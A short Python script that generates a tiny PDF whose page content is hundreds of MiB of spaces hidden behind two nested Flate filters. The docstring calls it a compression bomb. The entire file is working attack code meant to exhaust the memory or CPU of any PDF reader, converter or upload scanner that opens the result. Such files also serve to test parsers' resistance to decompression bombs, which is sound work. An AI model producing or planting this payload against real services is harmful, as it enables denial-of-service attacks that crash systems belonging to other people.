#!/usr/bin/env python3
"""bomb.py OUT.pdf [MIB]: a 1 KB PDF whose page content is MIB MiB
(default 512) of spaces behind two Flate filters: a compression bomb.
Written by hand."""
import sys
import zlib
mib = int(sys.argv[2]) if len(sys.argv) > 2 else 512
chunk = b" " * (1 << 20)
co = zlib.compressobj(9)
inner = b"".join(co.compress(chunk) for _ in range(mib)) + co.flush()
c = zlib.compress(inner, 9)
head = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Contents 4 0 R >> endobj\n"
        b"4 0 obj << /Length " + str(len(c)).encode() +
        b" /Filter [/FlateDecode /FlateDecode] >> stream\n")
open(sys.argv[1], "wb").write(head + c + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
